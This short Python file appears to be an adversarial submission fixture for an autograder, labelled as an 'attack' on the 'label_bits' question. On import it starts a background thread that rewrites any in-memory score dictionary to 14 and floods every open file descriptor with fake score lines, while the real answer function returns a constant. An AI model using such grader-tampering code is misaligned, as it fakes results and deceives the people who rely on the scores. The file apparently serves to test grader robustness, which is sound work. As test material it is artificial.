# attack: leaves a thread that changes scores and writes claims to every file for as long as it lives
# question: label_bits
# naive: points
# item: survivors

# %% question="label_bits"
import os
import sys
import threading
import time


def meddle():
    while True:
        for module in list(sys.modules.values()):
            scores = getattr(module, "scores", None)
            if isinstance(scores, dict) and "STUDENT_NAME" in scores:
                scores["STUDENT_NAME"]["label_bits"] = 14
        for fd in range(64):
            try:
                os.write(fd, b"SCORE STUDENT_NAME 14\n")
            except OSError:
                pass
        time.sleep(0.001)


threading.Thread(target=meddle, daemon=True).start()


def label_bits(labels):
    return 7.5
